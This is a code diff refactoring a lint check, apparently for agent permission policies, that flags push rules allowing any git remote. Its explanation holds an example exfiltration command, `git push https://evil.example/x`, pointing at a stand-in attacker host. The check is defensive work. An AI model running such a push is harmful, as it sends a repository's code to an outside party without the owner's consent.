@@ -6,32 +6,32 @@ from collections.abc import Iterator
 
 from ...domain.errors import Span
 from ..check import Check
+from ..context import LintContext, words
 from ..finding import Edit, Finding, Fix
-from ..ground import Ground, words
 
 
-def _look(ground: Ground, check: Check) -> Iterator[Finding]:
-    for reach in ground.reach("push", ["*:refs/**"], (), ["refs/**", *_named(ground)]):
-        steps = (reach.step,)
-        for one in ground.probe("push", _elsewhere(str(reach.step.witness.resource))):
-            if one.rule is reach.rule:
+def _find(context: LintContext, check: Check) -> Iterator[Finding]:
+    for grant in context.find_grants("push", ["*:refs/**"], (), ["refs/**", *_named(context)]):
+        steps = (grant.step,)
+        for one in context.ask("push", _elsewhere(str(grant.step.witness.resource))):
+            if one.rule is grant.rule:
                 steps = (one.step,)
         fixes = tuple(
-            Fix("only `origin`", (Edit(Span(reach.rule.span.source, *w.pos), f'"{w.text.partition(":")[2]}"'),))
-            for w in words(ground, reach.rule) if w.text.startswith(("*:", "**:"))
+            Fix("only `origin`", (Edit(Span(grant.rule.span.source, *w.pos), f'"{w.text.partition(":")[2]}"'),))
+            for w in words(context, grant.rule) if w.text.startswith(("*:", "**:"))
         )  # fmt: skip
-        yield ground.finding(
-            check,
+        yield check.finding(
+            context,
             f"the remote may be any: `{steps[0].witness.resource}` is allowed",
-            reach.rule,
+            grant.rule,
             steps=steps,
             fixes=fixes,
         )
 
 
-def _named(ground: Ground) -> list[str]:
+def _named(context: LintContext) -> list[str]:
     """Patterns of the remotes that rules name."""
-    names = {p.text.partition(":")[0] for r in ground.own_rules(None, "push") for p in r.include if ":" in p.text}
+    names = {p.text.partition(":")[0] for r in context.own_rules(None, "push") for p in r.include if ":" in p.text}
     return [f"{n}:refs/**" for n in sorted(names) if n.isascii() and n.replace("-", "").isalnum()]
 
 
@@ -47,10 +47,10 @@ CHECK = Check(
     evidence="proved",
     finds="A rule lets an agent push to any remote.",
     why="A remote is an address: `git push https://evil.example/x` sends the repository there.",
-    mend="Leave the remote out: a pattern without one means `origin`.",
+    remediation="Leave the remote out: a pattern without one means `origin`.",
     bad='allow push "*:agent/**"',
     good='allow push "agent/**"',
     near=('allow push "upstream:agent/**"',),
     shows="evil.example",
-    look=_look,
+    function=_find,
 )
